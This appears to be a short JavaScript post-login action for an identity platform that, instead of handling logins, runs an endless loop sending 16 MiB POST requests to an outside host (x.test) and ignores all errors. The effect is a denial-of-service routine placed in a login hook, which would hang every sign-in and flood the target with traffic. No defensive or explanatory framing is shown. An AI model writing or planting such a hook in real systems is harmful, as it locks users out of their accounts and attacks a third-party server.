exports.onExecutePostLogin = async (event, api) => {
  const body = 'b'.repeat(2 ** 24);
  for (;;) { try { await fetch('https://x.test/', { method: 'POST', body }); } catch (e) { void e; } }
};
